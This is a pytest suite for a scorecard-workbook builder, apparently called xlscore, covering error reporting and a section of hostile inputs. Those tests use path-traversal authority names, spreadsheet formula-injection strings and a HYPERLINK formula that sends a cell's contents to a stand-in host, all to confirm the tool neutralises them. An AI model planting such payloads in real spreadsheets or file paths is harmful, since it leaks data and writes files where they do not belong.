"""`xlscore build` as a user runs it: the path on success; on bad input, every problem with
its file and line, exit 1, no traceback, and nothing in outputs/ created or changed."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest
from typer.testing import CliRunner

from tests.conftest import edit
from xlscore.cli import app

WORKBOOK = "slough-scorecard-2020-12.xlsx"


def invoke(project: Path, *args: str):
    return CliRunner().invoke(app, ["build", "--catalogue", str(project / "measures.yaml"),
                                    "--inputs", str(project / "inputs"),
                                    "--out", str(project / "outputs"), *args])


def run(project: Path, *args: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "xlscore.cli", "build", *args], cwd=project,
                          capture_output=True, text=True, timeout=120, check=False)


def append(path: Path, *rows: str) -> None:
    with path.open("a", encoding="utf-8", newline="") as handle:
        handle.write("".join(f"{row}\n" for row in rows))


def snapshot(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in folder.iterdir()}


def break_december(project: Path) -> None:
    """Lines 43-45 of the December extract: three different mistakes."""
    extract = project / "inputs" / "2020-12.csv"
    assert len(extract.read_text(encoding="utf-8").splitlines()) == 42
    append(extract, "contacts_rate,5,,,", "referrals,-3,,,", "typo_measure,1,,,")


def test_build_prints_the_path_and_writes_the_workbook(project):
    result = invoke(project)
    assert result.exit_code == 0, result.output
    path = project / "outputs" / WORKBOOK
    assert result.stdout.strip() == str(path)
    assert path.read_bytes()[:2] == b"PK"
    assert sorted(p.name for p in (project / "outputs").iterdir()) == [WORKBOOK]


def test_build_with_defaults_in_a_real_process(project):
    result = run(project)
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip() == str(Path("outputs") / WORKBOOK)
    assert (project / "outputs" / WORKBOOK).is_file()
    assert "Traceback" not in result.stderr


def test_month_option_picks_an_earlier_month(project):
    result = invoke(project, "--month", "2020-11")
    assert result.exit_code == 0, result.output
    assert result.stdout.strip().endswith("slough-scorecard-2020-11.xlsx")


def test_bad_extract_fails_with_file_and_line_and_writes_nothing(project):
    (project / "outputs" / WORKBOOK).write_bytes(b"last month's workbook")
    before = snapshot(project / "outputs")
    break_december(project)
    result = run(project)
    assert result.returncode == 1
    assert "Traceback" not in result.stdout + result.stderr
    assert result.stdout == ""
    assert "2020-12.csv:43" in result.stderr and "remove this row" in result.stderr
    assert snapshot(project / "outputs") == before


def test_several_problems_are_reported_in_one_run(project):
    break_december(project)
    append(project / "inputs" / "2020-11.csv", "contacts,lots,,,")
    result = invoke(project)
    assert result.exit_code == 1
    for where in ("2020-12.csv:43", "2020-12.csv:44", "2020-12.csv:45", "2020-11.csv:"):
        assert where in result.stderr
    assert "4 errors found; nothing was written" in result.stderr
    assert list((project / "outputs").iterdir()) == []


def test_month_without_an_extract(project):
    result = invoke(project, "--month", "2021-01")
    assert result.exit_code == 1
    assert "--month 2021-01: there is no extract for that month" in result.stderr
    assert list((project / "outputs").iterdir()) == []


def test_badly_written_month(project):
    result = invoke(project, "--month", "Dec-20")
    assert result.exit_code == 1
    assert "YYYY-MM" in result.stderr


def test_catalogue_error_names_the_catalogue_line(project):
    catalogue = project / "measures.yaml"
    text = catalogue.read_text(encoding="utf-8")
    catalogue.write_text(text.replace("        direction: higher\n", "", 1), encoding="utf-8")
    result = run(project)
    assert result.returncode == 1
    assert "Traceback" not in result.stderr
    assert "measures.yaml:" in result.stderr and "a target needs a direction" in result.stderr
    assert list((project / "outputs").iterdir()) == []


def test_missing_catalogue(project):
    result = invoke(project, "--catalogue", str(project / "nope.yaml"))
    assert result.exit_code == 1
    assert "catalogue not found" in result.stderr


def test_corrupt_workbook_extract(project):
    (project / "inputs" / "2020-12.csv").unlink()
    (project / "inputs" / "2020-12.xlsx").write_bytes(b"\x00\x01not a workbook" * 50)
    result = run(project)
    assert result.returncode == 1
    assert "2020-12.xlsx" in result.stderr and "Traceback" not in result.stderr


def test_an_unwritable_output_is_an_error_not_a_traceback(project):
    (project / "outputs").rmdir()
    (project / "outputs").write_text("a file where the folder should be")
    result = run(project)
    assert result.returncode == 1
    assert "cannot write the workbook" in result.stderr
    assert "Traceback" not in result.stderr


def test_warnings_do_not_stop_the_build(project):
    (project / "inputs" / "notes.csv").write_text("measure,value\n", encoding="utf-8")
    result = invoke(project)
    assert result.exit_code == 0, result.output
    assert "warning:" in result.stderr and "notes.csv" in result.stderr


def test_a_failed_save_leaves_no_temporary_file(project):
    (project / "outputs" / WORKBOOK).mkdir()  # the rename onto it fails
    result = invoke(project)
    assert result.exit_code == 1
    assert "cannot write the workbook" in result.stderr
    assert [p.name for p in (project / "outputs").iterdir()] == [WORKBOOK]


# --- hostile and accidental inputs (issue 7) ------------------------------------------

def built(project: Path, *args: str):
    """Build through the pipeline, as the CLI does, returning (path or None, problems)."""
    from datetime import date

    from xlscore.pipeline import build
    from xlscore.problems import InputError, Problems

    problems = Problems()
    try:
        made = build(project / "measures.yaml", project / "inputs", project / "outputs",
                     *(args or (None,)), problems, today=date(2021, 1, 12))
    except InputError:
        return None, problems
    return made, problems


def codes(problems) -> list[str]:
    return [p.code for p in problems.items]



def add_empty_column(path: Path, name: str) -> None:
    """A last column named `name`, empty on every line."""
    lines = path.read_text(encoding="utf-8").splitlines()
    path.write_text("\n".join(f"{line},{name}" if n == 0 else f"{line}," for n, line in
                              enumerate(lines)) + "\n", encoding="utf-8")


def test_a_duplicated_empty_value_column_stops_the_build(project):
    """Was: 0 warnings and 1 green / 0 amber / 4 red instead of 9 / 2 / 13."""
    add_empty_column(project / "inputs" / "2020-12.csv", "value")
    made, problems = built(project)
    assert made is None
    assert codes(problems) == ["table.duplicate-column"]
    assert problems.errors[0].file.endswith("2020-12.csv") and "B and F" in str(
        problems.errors[0])
    assert list((project / "outputs").iterdir()) == []


def test_a_duplicated_empty_benchmark_column_stops_the_build(project):
    add_empty_column(project / "inputs" / "benchmarks.csv", "slough ")
    made, problems = built(project)
    assert made is None and codes(problems) == ["table.duplicate-column"]


def test_a_blank_template_is_not_built_as_the_month(project):
    assert CliRunner().invoke(app, ["template", "--catalogue", str(project / "measures.yaml"),
                                    "--inputs", str(project / "inputs")]).exit_code == 0
    made, problems = built(project)
    assert made is None and codes(problems) == ["extract.all-blank"]
    assert problems.errors[0].file.endswith("2021-01.xlsx")
    made, problems = built(project, "2020-12")  # the filled months still build
    assert made is not None and not problems.errors


def test_a_month_in_the_future_is_built_with_a_warning(project):
    extract = project / "inputs" / "2020-12.csv"
    extract.rename(project / "inputs" / "2021-02.csv")
    made, problems = built(project)
    assert made is not None and "extract.future-month" in codes(problems)


@pytest.mark.parametrize(("authority", "name"), [
    ("../../other/outputs/slough", "other-outputs-slough-scorecard-2020-12.xlsx"),
    ("/tmp/elsewhere", "tmp-elsewhere-scorecard-2020-12.xlsx"),
    ("Bath/North East Somerset", "bath-north-east-somerset-scorecard-2020-12.xlsx"),
    ("Very Long Borough " * 17, "very-long-borough-very-long-borough-very-long-borough-very-l"
                                "-scorecard-2020-12.xlsx"),
])
def test_the_authority_never_chooses_where_the_workbook_goes(project, authority, name):
    edit(project / "measures.yaml", "authority: Slough", f'authority: "{authority}"')
    made, problems = built(project)
    assert not problems.errors, [str(p) for p in problems.errors]
    assert [p.name for p in (project / "outputs").iterdir()] == [name]
    assert made.path == project / "outputs" / name


def test_catalogue_text_never_becomes_a_formula_on_any_sheet(project):
    from openpyxl import load_workbook

    catalogue = project / "measures.yaml"
    edit(catalogue, "authority: Slough", "authority: '=1+1'")
    edit(catalogue, "  - name: Front Door", "  - name: '=SUM(1,2)'")
    hyperlink = '=HYPERLINK("http://example.invalid/?"&H12, "Bexley")'
    edit(catalogue, "Bexley, Kingston", f"'{hyperlink}', Kingston")
    benchmarks = project / "inputs" / "benchmarks.csv"
    edit(benchmarks, "Bexley", '"' + hyperlink.replace('"', '""') + '"')
    made, problems = built(project)
    assert not problems.errors, [str(p) for p in problems.errors]
    book = load_workbook(made.path)
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                texts.append(str(cell.value))
    assert any(t.startswith("=1+1") for t in texts) and "=SUM(1,2)" in texts
    assert any(t.startswith("=HYPERLINK") for t in texts)


def test_an_ampersand_in_the_authority_prints_in_page_headers(project):
    from openpyxl import load_workbook

    edit(project / "measures.yaml", "authority: Slough", 'authority: "Brighton & Hove"')
    made, problems = built(project)
    assert not problems.errors
    for sheet in load_workbook(made.path).worksheets:
        assert "Brighton && Hove" in sheet.oddHeader.center.text, sheet.title


def test_a_stray_value_in_the_last_cell_of_an_extract_builds(project):
    from openpyxl import Workbook

    extract = project / "inputs" / "2020-12.csv"
    book = Workbook()
    for line in extract.read_text(encoding="utf-8").splitlines():
        book.active.append(line.split(",", 4))
    book.active["XFD1048576"] = "x"
    book.save(project / "inputs" / "2020-12.xlsx")
    extract.unlink()
    made, problems = built(project)
    assert made is not None and not problems.errors


def test_a_list_where_an_id_belongs_is_an_error_in_every_command(project):
    edit(project / "measures.yaml", "rate_of: contacts", "rate_of: [contacts]")
    for command in ("build", "check", "measures"):
        args = [command, "--catalogue", str(project / "measures.yaml")]
        if command != "measures":
            args += ["--inputs", str(project / "inputs")]
        result = CliRunner().invoke(app, args)
        assert result.exit_code == 1, (command, result.output)
        assert result.exception is None or isinstance(result.exception, SystemExit)
        assert "rate_of" in result.stderr


def test_a_control_character_in_a_note_names_the_line(project):
    append(project / "inputs" / "2020-12.csv", "contacts_1_day_pct,,,,first\x1b[31m")
    made, problems = built(project)
    assert made is None and "table.control-character" in codes(problems)
    assert any(p.line == 43 for p in problems.errors)


def test_the_command_builds_without_numpy_and_benchmarks_keeps_it(project):
    """openpyxl imports numpy when it is installed (0.05 s of every build); the commands
    that never use pandas stop it. `xlscore benchmarks` needs it."""
    code = ("import sys\n"
            "sys.argv = ['xlscore', *sys.argv[1:]]\n"
            "from xlscore.__main__ import run\n"
            "assert run() == 0\n"
            "print(sys.modules.get('numpy', 'absent'))\n")

    def numpy_after(*args: str) -> str:
        result = subprocess.run([sys.executable, "-c", code, *args], cwd=project,
                                capture_output=True, text=True, timeout=300, check=False)
        assert result.returncode == 0, result.stderr
        return result.stdout.strip().splitlines()[-1]

    assert numpy_after("build", "--quiet") in ("None", "absent")
    assert numpy_after("benchmarks", "--help") not in ("None",)
